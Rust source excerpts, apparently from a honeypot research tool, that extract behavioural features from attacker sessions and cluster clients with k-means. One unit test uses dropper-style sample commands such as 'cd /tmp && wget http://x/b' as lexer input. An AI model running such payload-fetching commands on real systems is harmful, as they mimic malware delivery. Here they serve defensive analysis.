        let c: [f64; N_FEATURES] = m.row(idx).try_into().unwrap();
        for (i, d) in d2.iter_mut().enumerate() {
            *d = d.min(dist_sq(m.row(i), &c));
        }
        centroids.push(c);
    }

    // Lloyd iterations. Assignment ties go to the lowest centroid index
    // (strict `<` keeps the first minimum); centroid sums run in row (=
    // client IP) order, so both halves are order-fixed.
    let mut assign = vec![0u32; n];
    for _ in 0..cfg.max_iters {
        let mut changed = false;
        for (i, slot) in assign.iter_mut().enumerate() {
            let mut best = 0u32;
            let mut best_d = f64::INFINITY;
            for (c, centroid) in centroids.iter().enumerate() {
                let d = dist_sq(m.row(i), centroid);
                if d < best_d {
                    best_d = d;
                    best = c as u32;
                }
            }
            if *slot != best {
                *slot = best;
                changed = true;
            }
        }
        if !changed {
            break;
        }
        let mut sums = vec![[0.0f64; N_FEATURES]; k];
        let mut counts = vec![0u64; k];
        for (i, &a) in assign.iter().enumerate() {
            let c = a as usize;
            counts[c] += 1;
            let row = m.row(i);
            for f in 0..N_FEATURES {
                sums[c][f] += row[f];
            }
        }
        for c in 0..k {
            if counts[c] == 0 {
                continue; // empty cluster keeps its previous centroid
            }
            for f in 0..N_FEATURES {
                centroids[c][f] = sums[c][f] / counts[c] as f64;
            }
        }
    }
    (assign, centroids)
}

/// Centroid-based silhouette: per point, `a` = distance to its own
/// centroid, `b` = distance to the nearest other *non-empty* centroid,
/// score `(b − a) / max(a, b)` (0 when both are 0). The mean over all
/// points judges the k. Fewer than two non-empty clusters scores −1, so a
/// collapsed k can never win the sweep over a real split. O(n·k) — the
/// fixed, documented stand-in for the O(n²) textbook silhouette.
pub fn silhouette(m: &FeatureMatrix, assign: &[u32], centroids: &[[f64; N_FEATURES]]) -> f64 {
    let n = m.len();
    if n == 0 {
        return 0.0;
    }
    let mut counts = vec![0u64; centroids.len()];
    for &a in assign {
        counts[a as usize] += 1;
    }
    if counts.iter().filter(|&&c| c > 0).count() < 2 {
        return -1.0;
    }
    let mut total = 0.0;
    for (i, &a) in assign.iter().enumerate() {
        let own = a as usize;
        let a = dist_sq(m.row(i), &centroids[own]).sqrt();
        let mut b = f64::INFINITY;
        for (c, centroid) in centroids.iter().enumerate() {
            if c != own && counts[c] > 0 {
                b = b.min(dist_sq(m.row(i), centroid).sqrt());
            }
        }
        let denom = a.max(b);
        total += if denom > 0.0 { (b - a) / denom } else { 0.0 };
    }
    total / n as f64
}

/// One sweep candidate: `(silhouette, k, assignments, centroids)`.
type Candidate = (f64, usize, Vec<u32>, Vec<[f64; N_FEATURES]>);

/// Cluster a feature matrix: sweep k, keep the best silhouette (ties to
/// the smaller k), canonicalize labels. Degenerate inputs are defined, not
/// panics: an empty matrix returns `k = 0`, a single client `k = 1`, and
/// all-identical clients collapse to one cluster.
pub fn cluster(m: &FeatureMatrix, cfg: &KMeansConfig) -> ClusterOutput {
    let _span = hf_obs::span!("cluster.kmeans");
    let n = m.len();
    if n == 0 {
        return ClusterOutput {
            k: 0,
            silhouette: 0.0,
            sweep: Vec::new(),
            assignments: Vec::new(),
            centroids: Vec::new(),
            sizes: Vec::new(),
        };
    }

    let candidates: Vec<usize> = match cfg.force_k {
        Some(k) => vec![k.clamp(1, n)],
        None if n == 1 => vec![1],
        None => (cfg.k_min.min(n)..=cfg.k_max.min(n)).collect(),
    };

    let mut best: Option<Candidate> = None;
    let mut sweep = Vec::with_capacity(candidates.len());
    for &k in &candidates {
        let (assign, centroids) = lloyd(m, k, cfg);
        let score = silhouette(m, &assign, &centroids);
        sweep.push((k, score));
        // Strictly-greater keeps the first (smallest) k on ties.
        let better = match &best {
            None => true,
            Some((s, ..)) => score > *s,
        };
        if better {
            best = Some((score, k, assign, centroids));
        }
    }
    let (score, _, assign, centroids) = best.expect("at least one candidate k");
    hf_obs::counter!("cluster.sweep_evals", sweep.len() as u64);

    // Canonical labels: drop empty clusters, order the rest by (size desc,
    // lowest member row asc). Rows are ascending client IP, so "lowest
    // member row" is "lowest member IP" — the documented tie-break.
    let k_raw = centroids.len();
    let mut sizes_raw = vec![0u64; k_raw];
    let mut lowest = vec![u32::MAX; k_raw];
    for (i, &a) in assign.iter().enumerate() {
        let c = a as usize;
        sizes_raw[c] += 1;
        lowest[c] = lowest[c].min(i as u32);
    }
    let mut order: Vec<usize> = (0..k_raw).filter(|&c| sizes_raw[c] > 0).collect();
    order.sort_by(|&a, &b| {
        sizes_raw[b]
            .cmp(&sizes_raw[a])
            .then(lowest[a].cmp(&lowest[b]))
    });
    let mut relabel = vec![u32::MAX; k_raw];
    for (new, &old) in order.iter().enumerate() {
        relabel[old] = new as u32;
    }
    let assignments: Vec<(u32, u32)> = m
        .clients
        .iter()
        .zip(&assign)
        .map(|(&ip, &a)| (ip, relabel[a as usize]))
        .collect();
    ClusterOutput {
        k: order.len(),
        silhouette: score,
        sweep,
        assignments,
        centroids: order.iter().map(|&c| centroids[c]).collect(),
        sizes: order.iter().map(|&c| sizes_raw[c]).collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn matrix(rows: &[[f64; N_FEATURES]]) -> FeatureMatrix {
        FeatureMatrix {
            clients: (0..rows.len() as u32).collect(),
            data: rows.iter().flatten().copied().collect(),
        }
    }

    fn point(a: f64, b: f64) -> [f64; N_FEATURES] {
        let mut p = [0.0; N_FEATURES];
        p[0] = a;
        p[1] = b;
        p
    }

    #[test]
    fn empty_input_is_defined() {
        let out = cluster(&matrix(&[]), &KMeansConfig::default());
        assert_eq!(out.k, 0);
        assert!(out.assignments.is_empty());
        assert!(out.sweep.is_empty());
    }

    #[test]
    fn single_client_is_one_cluster() {
        let out = cluster(&matrix(&[point(0.5, 0.5)]), &KMeansConfig::default());
        assert_eq!(out.k, 1);
        assert_eq!(out.assignments, vec![(0, 0)]);
        assert_eq!(out.sizes, vec![1]);
    }

    #[test]
    fn identical_clients_collapse() {
        let rows = vec![point(0.3, 0.7); 6];
        let out = cluster(&matrix(&rows), &KMeansConfig::default());
        assert_eq!(out.k, 1, "all-identical input must collapse to one cluster");
        assert!(out.assignments.iter().all(|&(_, c)| c == 0));
        assert_eq!(out.silhouette, -1.0);
        assert_eq!(out.sizes, vec![6]);
    }

    #[test]
    fn two_well_separated_blobs_are_found() {
        let mut rows = Vec::new();
        for i in 0..8 {
            rows.push(point(0.05 + 0.01 * i as f64, 0.1));
            rows.push(point(0.85 + 0.01 * i as f64, 0.9));
        }
        let out = cluster(&matrix(&rows), &KMeansConfig::default());
        assert_eq!(out.k, 2);
        assert!(out.silhouette > 0.5, "silhouette {}", out.silhouette);
        // Even rows are blob A, odd rows blob B; labels must be consistent.
        let a = out.assignments[0].1;
        let b = out.assignments[1].1;
        assert_ne!(a, b);
        for (i, &(_, c)) in out.assignments.iter().enumerate() {
            assert_eq!(c, if i % 2 == 0 { a } else { b });
        }
        assert_eq!(out.sizes, vec![8, 8]);
    }

    #[test]
    fn runs_are_bit_identical() {
        let mut rows = Vec::new();
        for i in 0..30 {
            rows.push(point((i % 7) as f64 / 7.0, (i % 3) as f64 / 3.0));
        }
        let m = matrix(&rows);
        let a = cluster(&m, &KMeansConfig::default());
        let b = cluster(&m, &KMeansConfig::default());
        assert_eq!(a, b);
        assert_eq!(a.silhouette.to_bits(), b.silhouette.to_bits());
    }

    #[test]
    fn force_k_skips_the_sweep() {
        let rows = vec![point(0.1, 0.1), point(0.9, 0.9), point(0.5, 0.5)];
        let out = cluster(
            &matrix(&rows),
            &KMeansConfig {
                force_k: Some(3),
                ..KMeansConfig::default()
            },
        );
        assert_eq!(out.sweep.len(), 1);
        assert_eq!(out.k, 3);
    }
}
