//! Per-client feature extraction.
//!
//! One pass over the session store turns every client IP into a fixed
//! vector of behavioural features: credential patterns, command-head
//! n-grams (from the shell's arena lexer views), inter-session timing,
//! client ident strings, geography relative to the contacted honeypots,
//! and the Section 6 taxonomy mix.
//!
//! # Determinism
//!
//! Everything accumulated during the pass is an integer, a bitset, or an
//! id-set — all of which merge exactly (addition, union, min/max). Floats
//! only appear in [`ClientFeatures::matrix`], computed per client from the
//! *final* integer state with a fixed expression. Shard boundaries can
//! therefore never change a feature bit: the same store produces the same
//! matrix for any thread count, for streaming chunk-at-a-time ingest, and
//! after a snapshot round-trip. `tests/cluster_invariance.rs` holds this
//! with field-level oracles.

use std::collections::{HashMap, HashSet};

use hf_core::aggregates::{bit_count, bit_set, bit_union, HpBitset};
use hf_core::classify::classify;
use hf_core::idhash::{BuildIdHasher, IdMap, IdSet};
use hf_farm::{Dataset, FarmPlan, SessionView, StringPool};
use hf_geo::{CountryId, RegionRelation, World};
use hf_proto::Protocol;
use hf_shell::lexer::{for_each_command_head, LineBuf};

/// Number of features per client. Keep in sync with [`FEATURE_NAMES`].
pub const N_FEATURES: usize = 24;

/// Feature names, in column order. The schema is documented in
/// DESIGN.md §15; golden TSVs pin both the names and the values.
pub const FEATURE_NAMES: [&str; N_FEATURES] = [
    "sessions_log",
    "honeypots_frac",
    "days_log",
    "duration_mean",
    "gap_log",
    "logins_per_session",
    "cred_uniq",
    "login_success",
    "cmds_per_session",
    "cmd_vocab",
    "head_vocab",
    "bigram_vocab",
    "ssh_frac",
    "ident_vocab",
    "uri_frac",
    "hash_vocab",
    "cat_no_cred",
    "cat_fail_log",
    "cat_no_cmd",
    "cat_cmd",
    "cat_cmd_uri",
    "geo_same_country",
    "geo_same_continent",
    "geo_diff_continent",
];

/// Clamp to the unit interval, mapping non-finite input to `0.0`. Every
/// feature column passes through this guard, so a degenerate client (zero
/// sessions, zero login attempts) can never leak a NaN into the distance
/// math.
pub fn unit01(x: f64) -> f64 {
    if x.is_finite() {
        x.clamp(0.0, 1.0)
    } else {
        0.0
    }
}

/// `ln(1 + n) / ln(1 + cap)`, clamped to the unit interval — the fixed
/// log-compression used for every count feature. `cap` is a documented
/// constant per column, never a data-dependent maximum, so adding rows to
/// the store can only move that client's own coordinate.
fn log_unit(n: u64, cap: f64) -> f64 {
    unit01((1.0 + n as f64).ln() / (1.0 + cap).ln())
}

/// Lazily-built map from interned command id to the head words (command
/// names) the shell lexer finds in that line. Head ids are assigned in
/// command-id order, so the numbering is a pure function of the pool —
/// identical across thread counts and across materialized vs streaming
/// ingest (pools grow append-only; see `SnapshotReader::fold_chunks`).
#[derive(Default)]
pub struct HeadMap {
    /// Per command id: span into `ids`.
    spans: Vec<(u32, u32)>,
    /// Flattened head ids, one run per command line.
    ids: Vec<u32>,
    /// Head word → head id, first-appearance numbering.
    intern: HashMap<String, u32>,
    /// Reused lexer arena.
    buf: LineBuf,
}

impl HeadMap {
    /// Empty map.
    pub fn new() -> Self {
        Self::default()
    }

    /// Extend the map to cover every command currently in `commands`.
    /// Already-covered ids are never re-lexed, so streaming callers can
    /// sync once per chunk at amortized zero cost.
    pub fn sync(&mut self, commands: &StringPool) {
        let HeadMap {
            spans,
            ids,
            intern,
            buf,
        } = self;
        while spans.len() < commands.len() {
            let cmd_id = spans.len() as u32;
            let start = ids.len() as u32;
            for_each_command_head(buf, commands.get(cmd_id), |head| {
                let hid = match intern.get(head) {
                    Some(&h) => h,
                    None => {
                        let h = intern.len() as u32;
                        intern.insert(head.to_string(), h);
                        h
                    }
                };
                ids.push(hid);
            });
            spans.push((start, ids.len() as u32));
        }
    }

    /// Head ids of one command line.
    pub fn heads(&self, cmd_id: u32) -> &[u32] {
        let (s, e) = self.spans[cmd_id as usize];
        &self.ids[s as usize..e as usize]
    }

    /// Distinct head words seen so far.
    pub fn n_heads(&self) -> usize {
        self.intern.len()
    }
}

/// Integer accumulator for one client. All fields merge exactly — see the
/// module docs for why that is the whole determinism argument.
#[derive(Clone)]
pub struct ClientAcc {
    /// Sessions by this client.
    pub sessions: u64,
    /// Earliest session start (secs since epoch); `u32::MAX` = none yet.
    pub first_start: u32,
    /// Latest session start.
    pub last_start: u32,
    /// Sum of session durations, seconds.
    pub total_duration: u64,
    /// Honeypots contacted.
    pub honeypots: HpBitset,
    /// Distinct active days.
    pub days: u32,
    /// Last day counted (`u32::MAX` = none yet) — fold internal, public so
    /// the differential oracles can compare it.
    pub last_day: u32,
    /// Sessions per taxonomy category.
    pub cat_sessions: [u64; 5],
    /// Login attempts / successes.
    pub login_attempts: u64,
    /// Accepted logins.
    pub login_successes: u64,
    /// Distinct credential ids offered.
    pub cred_ids: IdSet,
    /// Total command lines run.
    pub commands: u64,
    /// Distinct command-line ids.
    pub cmd_ids: IdSet,
    /// Distinct command-head ids (from [`HeadMap`]).
    pub head_ids: IdSet,
    /// Distinct head bigrams, packed `(a << 32) | b` over the session's
    /// head sequence.
    pub bigrams: HashSet<u64, BuildIdHasher>,
    /// SSH sessions (the rest are Telnet).
    pub ssh_sessions: u64,
    /// Distinct SSH client ident string ids.
    pub ident_ids: IdSet,
    /// Sessions that referenced an external URI.
    pub uri_sessions: u64,
    /// Distinct file-hash ids produced.
    pub hash_ids: IdSet,
    /// Sessions by honeypot-relative client location:
    /// `[same country, same continent, different continent, unknown]`.
    pub geo: [u64; 4],
}

impl Default for ClientAcc {
    fn default() -> Self {
        ClientAcc {
            sessions: 0,
            first_start: u32::MAX,
            last_start: 0,
            total_duration: 0,
            honeypots: HpBitset::default(),
            days: 0,
            last_day: u32::MAX,
            cat_sessions: [0; 5],
            login_attempts: 0,
            login_successes: 0,
            cred_ids: IdSet::default(),
            commands: 0,
            cmd_ids: IdSet::default(),
            head_ids: IdSet::default(),
            bigrams: HashSet::default(),
            ssh_sessions: 0,
            ident_ids: IdSet::default(),
            uri_sessions: 0,
            hash_ids: IdSet::default(),
            geo: [0; 4],
        }
    }
}

impl ClientAcc {
    /// Fold one session. Rows must arrive day-ordered within a shard (the
    /// distinct-day count relies on it), exactly like `ClientAgg`.
    fn ingest(&mut self, plan: &FarmPlan, heads: &HeadMap, v: &SessionView<'_>) {
        let row = v.raw();
        self.sessions += 1;
        self.first_start = self.first_start.min(row.start_secs);
        self.last_start = self.last_start.max(row.start_secs);
        self.total_duration += row.duration_secs as u64;
        bit_set(&mut self.honeypots, row.honeypot);
        let day = v.day();
        if self.last_day == u32::MAX || self.last_day != day {
            self.days += 1;
            self.last_day = day;
        }
        self.cat_sessions[classify(v).index()] += 1;
        for &packed in v.login_packed() {
            self.login_attempts += 1;
            self.login_successes += (packed & 1) as u64;
            self.cred_ids.insert(packed >> 1);
        }
        let mut prev_head: Option<u32> = None;
        for &packed in v.command_packed() {
            self.commands += 1;
            let cmd_id = packed >> 1;
            self.cmd_ids.insert(cmd_id);
            for &h in heads.heads(cmd_id) {
                self.head_ids.insert(h);
                if let Some(p) = prev_head {
                    self.bigrams.insert(((p as u64) << 32) | h as u64);
                }
                prev_head = Some(h);
            }
        }
        if v.protocol() == Protocol::Ssh {
            self.ssh_sessions += 1;
        }
        if v.ssh_version().is_some() {
            self.ident_ids.insert(row.ssh_version_id);
        }
        if v.has_uri() {
            self.uri_sessions += 1;
        }
        for &h in v.hash_ids() {
            self.hash_ids.insert(h);
        }
        let geo_idx = if row.client_country == u16::MAX {
            3
        } else {
            let rel = World::region_relation(
                CountryId(row.client_country),
                plan.node(row.honeypot).country,
            );
            match rel {
                RegionRelation::SameCountry => 0,
                RegionRelation::SameContinent => 1,
                RegionRelation::DifferentContinent => 2,
            }
        };
        self.geo[geo_idx] += 1;
    }

    /// Merge `other` into `self`. Contract (same as the aggregates fold):
    /// `other` covers strictly later day-aligned rows, so the two distinct
    /// day sets are disjoint and the counts add.
    fn merge(&mut self, other: &ClientAcc) {
        self.sessions += other.sessions;
        self.first_start = self.first_start.min(other.first_start);
        self.last_start = self.last_start.max(other.last_start);
        self.total_duration += other.total_duration;
        bit_union(&mut self.honeypots, &other.honeypots);
        self.days += other.days;
        if other.last_day != u32::MAX {
            self.last_day = other.last_day;
        }
        for (a, b) in self.cat_sessions.iter_mut().zip(&other.cat_sessions) {
            *a += b;
        }
        self.login_attempts += other.login_attempts;
        self.login_successes += other.login_successes;
        self.cred_ids.extend(&other.cred_ids);
        self.commands += other.commands;
        self.cmd_ids.extend(&other.cmd_ids);
        self.head_ids.extend(&other.head_ids);
        self.bigrams.extend(&other.bigrams);
        self.ssh_sessions += other.ssh_sessions;
        self.ident_ids.extend(&other.ident_ids);
        self.uri_sessions += other.uri_sessions;
        self.hash_ids.extend(&other.hash_ids);
        for (a, b) in self.geo.iter_mut().zip(&other.geo) {
            *a += b;
        }
    }
}

/// Streaming per-shard fold: ingest day-ordered rows, merge shards in day
/// order, finish into [`ClientFeatures`]. The same type serves the serial,
/// threaded, and chunk-at-a-time paths.
#[derive(Default)]
pub struct FeatureFold {
    clients: IdMap<ClientAcc>,
}

impl FeatureFold {
    /// Empty fold.
    pub fn new() -> Self {
        Self::default()
    }

    /// Fold one session into its client's accumulator.
    pub fn ingest(&mut self, plan: &FarmPlan, heads: &HeadMap, v: &SessionView<'_>) {
        self.clients
            .entry(v.raw().client_ip)
            .or_default()
            .ingest(plan, heads, v);
    }

    /// Merge a later shard into this one. `other` must cover strictly
    /// later day-aligned rows (the `day_aligned_ranges` contract).
    pub fn merge(&mut self, other: FeatureFold) {
        for (ip, acc) in other.clients {
            match self.clients.entry(ip) {
                std::collections::hash_map::Entry::Occupied(mut e) => e.get_mut().merge(&acc),
                std::collections::hash_map::Entry::Vacant(e) => {
                    e.insert(acc);
                }
            }
        }
    }

    /// Clients folded so far.
    pub fn len(&self) -> usize {
        self.clients.len()
    }

    /// Has nothing been folded?
    pub fn is_empty(&self) -> bool {
        self.clients.is_empty()
    }

    /// Finish: sort clients by IP and freeze. `n_honeypots` fixes the
    /// denominator of the farm-coverage feature.
    pub fn finish(self, n_honeypots: usize) -> ClientFeatures {
        let mut clients: Vec<(u32, ClientAcc)> = self.clients.into_iter().collect();
        clients.sort_unstable_by_key(|&(ip, _)| ip);
        ClientFeatures {
            n_honeypots,
            clients,
        }
    }
}

/// Finished extraction: one integer accumulator per client, sorted by
/// client IP (the global tie-break order for everything downstream).
pub struct ClientFeatures {
    /// Honeypots in the deployment (feature denominator).
    pub n_honeypots: usize,
    /// `(client_ip, accumulator)`, ascending by IP.
    pub clients: Vec<(u32, ClientAcc)>,
}

/// Fixed scaling caps (see DESIGN.md §15). Counts compress through
/// `ln(1+n)/ln(1+cap)`; rates and mixes are plain fractions in `[0,1]`.
mod caps {
    /// Sessions per client.
    pub const SESSIONS: f64 = 1_000_000.0;
    /// Distinct active days (the paper window is 486 days).
    pub const DAYS: f64 = 486.0;
    /// Mean session duration, seconds.
    pub const DURATION: f64 = 600.0;
    /// Mean gap between session starts, seconds (the whole window).
    pub const GAP: f64 = 486.0 * 86_400.0;
    /// Login attempts per session.
    pub const LOGINS_PER_SESSION: f64 = 32.0;
    /// Command lines per session.
    pub const CMDS_PER_SESSION: f64 = 64.0;
    /// Distinct command lines.
    pub const CMD_VOCAB: f64 = 4096.0;
    /// Distinct command heads.
    pub const HEAD_VOCAB: f64 = 512.0;
    /// Distinct head bigrams.
    pub const BIGRAM_VOCAB: f64 = 4096.0;
    /// Distinct SSH ident strings.
    pub const IDENT_VOCAB: f64 = 64.0;
    /// Distinct file hashes.
    pub const HASH_VOCAB: f64 = 512.0;
}

impl ClientFeatures {
    /// Number of clients.
    pub fn len(&self) -> usize {
        self.clients.len()
    }

    /// No clients?
    pub fn is_empty(&self) -> bool {
        self.clients.is_empty()
    }

    /// Normalize into the `n × N_FEATURES` row-major matrix. Pure function
    /// of the accumulators: fixed scaling, no data-dependent statistics,
    /// every cell through the [`unit01`] NaN guard.
    pub fn matrix(&self) -> FeatureMatrix {
        let mut data = Vec::with_capacity(self.clients.len() * N_FEATURES);
        for (_, a) in &self.clients {
            let n = a.sessions as f64;
            let gap = if a.sessions > 1 {
                (a.last_start - a.first_start) as f64 / (a.sessions - 1) as f64
            } else {
                0.0
            };
            data.push(log_unit(a.sessions, caps::SESSIONS));
            data.push(unit01(
                bit_count(&a.honeypots) as f64 / self.n_honeypots as f64,
            ));
            data.push(log_unit(a.days as u64, caps::DAYS));
            data.push(unit01(a.total_duration as f64 / n / caps::DURATION));
            data.push(unit01((1.0 + gap).ln() / (1.0 + caps::GAP).ln()));
            data.push(unit01(
                a.login_attempts as f64 / n / caps::LOGINS_PER_SESSION,
            ));
            data.push(unit01(a.cred_ids.len() as f64 / a.login_attempts as f64));
            data.push(unit01(a.login_successes as f64 / a.login_attempts as f64));
            data.push(unit01(a.commands as f64 / n / caps::CMDS_PER_SESSION));
            data.push(log_unit(a.cmd_ids.len() as u64, caps::CMD_VOCAB));
            data.push(log_unit(a.head_ids.len() as u64, caps::HEAD_VOCAB));
            data.push(log_unit(a.bigrams.len() as u64, caps::BIGRAM_VOCAB));
            data.push(unit01(a.ssh_sessions as f64 / n));
            data.push(log_unit(a.ident_ids.len() as u64, caps::IDENT_VOCAB));
            data.push(unit01(a.uri_sessions as f64 / n));
            data.push(log_unit(a.hash_ids.len() as u64, caps::HASH_VOCAB));
            for cat in 0..5 {
                data.push(unit01(a.cat_sessions[cat] as f64 / n));
            }
            for g in 0..3 {
                data.push(unit01(a.geo[g] as f64 / n));
            }
        }
        FeatureMatrix {
            clients: self.clients.iter().map(|&(ip, _)| ip).collect(),
            data,
        }
    }
}

/// The normalized feature matrix: `clients.len()` rows of [`N_FEATURES`]
/// unit-interval columns, rows ascending by client IP.
#[derive(Clone, PartialEq)]
pub struct FeatureMatrix {
    /// Row keys: client IPs, ascending.
    pub clients: Vec<u32>,
    /// Row-major cells, `clients.len() * N_FEATURES` long.
    pub data: Vec<f64>,
}

impl FeatureMatrix {
    /// Number of rows.
    pub fn len(&self) -> usize {
        self.clients.len()
    }

    /// No rows?
    pub fn is_empty(&self) -> bool {
        self.clients.is_empty()
    }

    /// One client's feature row.
    pub fn row(&self, i: usize) -> &[f64] {
        &self.data[i * N_FEATURES..(i + 1) * N_FEATURES]
    }
}

/// Serial extraction over a materialized dataset.
pub fn extract(dataset: &Dataset) -> ClientFeatures {
    extract_threaded(dataset, 1)
}

/// Threaded extraction: shard on `day_aligned_ranges`, fold each shard,
/// merge in shard (= day) order. Join order is merge order, so the result
/// is bit-identical for any `threads`; stores that are not day-ordered
/// fall back to one serial fold over a start-sorted order index, exactly
/// like `Aggregates::compute_threaded`.
pub fn extract_threaded(dataset: &Dataset, threads: usize) -> ClientFeatures {
    let _span = hf_obs::span!("cluster.extract");
    let store = &dataset.sessions;
    let mut heads = HeadMap::new();
    heads.sync(&store.commands);
    let heads = &heads;

    if !store.is_day_ordered() {
        let mut order: Vec<u32> = (0..store.len() as u32).collect();
        order.sort_by_key(|&i| store.rows()[i as usize].start_secs);
        let mut fold = FeatureFold::new();
        for &idx in &order {
            fold.ingest(&dataset.plan, heads, &store.view(idx as usize));
        }
        hf_obs::counter!("cluster.rows_folded", store.len() as u64);
        return fold.finish(dataset.plan.len());
    }

    let ranges = store.day_aligned_ranges(threads.max(1));
    let shards: Vec<FeatureFold> = if ranges.len() <= 1 {
        ranges
            .into_iter()
            .map(|r| {
                hf_obs::counter!("cluster.rows_folded", r.len() as u64);
                let mut fold = FeatureFold::new();
                for v in store.iter_range(r) {
                    fold.ingest(&dataset.plan, heads, &v);
                }
                fold
            })
            .collect()
    } else {
        std::thread::scope(|scope| {
            let handles: Vec<_> = ranges
                .into_iter()
                .map(|r| {
                    scope.spawn(move || {
                        hf_obs::counter!("cluster.rows_folded", r.len() as u64);
                        let mut fold = FeatureFold::new();
                        for v in store.iter_range(r) {
                            fold.ingest(&dataset.plan, heads, &v);
                        }
                        hf_obs::flush();
                        fold
                    })
                })
                .collect();
            // Joining in spawn order *is* the day-ordered merge; a shard
            // panic is re-raised with its original payload.
            handles
                .into_iter()
                .map(|h| {
                    h.join()
                        .unwrap_or_else(|payload| std::panic::resume_unwind(payload))
                })
                .collect()
        })
    };
    let mut merged = FeatureFold::new();
    for shard in shards {
        merged.merge(shard);
    }
    hf_obs::counter!("cluster.clients", merged.len() as u64);
    merged.finish(dataset.plan.len())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unit01_guards_degenerate_values() {
        assert_eq!(unit01(f64::NAN), 0.0);
        assert_eq!(unit01(f64::INFINITY), 0.0);
        assert_eq!(unit01(f64::NEG_INFINITY), 0.0);
        assert_eq!(unit01(-0.5), 0.0);
        assert_eq!(unit01(1.5), 1.0);
        assert_eq!(unit01(0.25), 0.25);
    }

    #[test]
    fn zero_session_acc_produces_finite_features() {
        // Unreachable through ingest (a client exists only once a session
        // does), but the NaN guard must hold even for a default acc.
        let feats = ClientFeatures {
            n_honeypots: 221,
            clients: vec![(1, ClientAcc::default())],
        };
        let m = feats.matrix();
        assert!(m.row(0).iter().all(|x| x.is_finite()));
        assert!(m.row(0).iter().all(|&x| (0.0..=1.0).contains(&x)));
    }

    #[test]
    fn merge_is_exact_on_disjoint_days() {
        let mut a = ClientAcc {
            sessions: 2,
            first_start: 100,
            last_start: 90_000,
            days: 2,
            last_day: 1,
            ..ClientAcc::default()
        };
        a.cred_ids.insert(7);
        let mut b = ClientAcc {
            sessions: 1,
            first_start: 200_000,
            last_start: 200_000,
            days: 1,
            last_day: 2,
            ..ClientAcc::default()
        };
        b.cred_ids.insert(7);
        b.cred_ids.insert(9);
        a.merge(&b);
        assert_eq!(a.sessions, 3);
        assert_eq!(a.days, 3);
        assert_eq!(a.last_day, 2);
        assert_eq!(a.first_start, 100);
        assert_eq!(a.last_start, 200_000);
        assert_eq!(a.cred_ids.len(), 2);
    }

    #[test]
    fn head_map_numbers_heads_in_command_id_order() {
        let mut pool = StringPool::new();
        let a = pool.intern("wget http://x/a");
        let b = pool.intern("cd /tmp && wget http://x/b");
        let mut heads = HeadMap::new();
        heads.sync(&pool);
        assert_eq!(heads.heads(a), &[0]); // wget
        assert_eq!(heads.heads(b), &[1, 0]); // cd, wget
        assert_eq!(heads.n_heads(), 2);
        // Syncing again is a no-op; ids are stable.
        heads.sync(&pool);
        assert_eq!(heads.heads(b), &[1, 0]);
    }
}
