//! TSV and text renderings of a clustering run.
//!
//! All three renderers are pure functions of their inputs with fixed
//! `{:.6}` float formatting, so the golden suite can pin them byte-for-
//! byte and the CI streaming smoke can `diff` materialized vs streaming
//! output directories.

use std::fmt::Write;

use hf_geo::Ip4;

use crate::features::{ClientFeatures, FeatureMatrix, FEATURE_NAMES, N_FEATURES};
use crate::kmeans::ClusterOutput;

/// Per-client assignment table: one row per client (ascending IP) with its
/// canonical cluster id, raw session count, and the full normalized
/// feature vector.
pub fn assignments_tsv(feats: &ClientFeatures, m: &FeatureMatrix, out: &ClusterOutput) -> String {
    let mut s = String::new();
    s.push_str("client\tcluster\tsessions");
    for name in FEATURE_NAMES {
        s.push('\t');
        s.push_str(name);
    }
    s.push('\n');
    for (i, &(ip, cluster)) in out.assignments.iter().enumerate() {
        let _ = write!(
            s,
            "{}\t{}\t{}",
            Ip4(ip),
            cluster,
            feats.clients[i].1.sessions
        );
        for f in m.row(i) {
            let _ = write!(s, "\t{f:.6}");
        }
        s.push('\n');
    }
    s
}

/// Per-cluster summary table, preceded by `#`-prefixed run metadata
/// (client count, chosen k, silhouette, and the full sweep).
pub fn summary_tsv(out: &ClusterOutput) -> String {
    let mut s = String::new();
    let n: u64 = out.sizes.iter().sum();
    let _ = writeln!(s, "# clients\t{n}");
    let _ = writeln!(s, "# k\t{}", out.k);
    let _ = writeln!(s, "# silhouette\t{:.6}", out.silhouette);
    let sweep: Vec<String> = out
        .sweep
        .iter()
        .map(|(k, score)| format!("k={k}:{score:.6}"))
        .collect();
    let _ = writeln!(s, "# sweep\t{}", sweep.join(" "));
    s.push_str("cluster\tsize\tshare");
    for name in FEATURE_NAMES {
        s.push('\t');
        s.push_str(name);
    }
    s.push('\n');
    for c in 0..out.k {
        let share = out.sizes[c] as f64 / (n.max(1)) as f64;
        let _ = write!(s, "{c}\t{}\t{share:.6}", out.sizes[c]);
        for f in 0..N_FEATURES {
            let _ = write!(s, "\t{:.6}", out.centroids[c][f]);
        }
        s.push('\n');
    }
    s
}

/// Human summary — the report section `hfarm cluster` prints: one line of
/// run facts, then one line per cluster with its size, share, raw
/// sessions-per-client mean, and the three highest-valued centroid
/// features (ties broken by column order).
pub fn summary_text(feats: &ClientFeatures, out: &ClusterOutput) -> String {
    let mut s = String::new();
    let n: u64 = out.sizes.iter().sum();
    let _ = writeln!(s, "== Attacker clusters ==");
    let _ = writeln!(
        s,
        "clients {n}  k {}  silhouette {:.3}",
        out.k, out.silhouette
    );
    // Raw per-cluster session totals come from the accumulators, keyed by
    // assignment order (both are ascending client IP).
    let mut sessions = vec![0u64; out.k];
    for (i, &(_, cluster)) in out.assignments.iter().enumerate() {
        sessions[cluster as usize] += feats.clients[i].1.sessions;
    }
    for (c, &sess) in sessions.iter().enumerate() {
        let share = 100.0 * out.sizes[c] as f64 / n.max(1) as f64;
        let per_client = sess as f64 / out.sizes[c].max(1) as f64;
        let mut top: Vec<usize> = (0..N_FEATURES).collect();
        top.sort_by(|&a, &b| {
            out.centroids[c][b]
                .partial_cmp(&out.centroids[c][a])
                .unwrap_or(std::cmp::Ordering::Equal)
                .then(a.cmp(&b))
        });
        let top: Vec<String> = top[..3]
            .iter()
            .map(|&f| format!("{} {:.2}", FEATURE_NAMES[f], out.centroids[c][f]))
            .collect();
        let _ = writeln!(
            s,
            "cluster {c}: {} clients ({share:.1}%)  {per_client:.1} sessions/client  top: {}",
            out.sizes[c],
            top.join(", ")
        );
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::features::ClientAcc;
    use crate::kmeans::KMeansConfig;

    #[test]
    fn empty_run_renders_headers_only() {
        let feats = ClientFeatures {
            n_honeypots: 221,
            clients: Vec::new(),
        };
        let m = feats.matrix();
        let out = crate::kmeans::cluster(&m, &KMeansConfig::default());
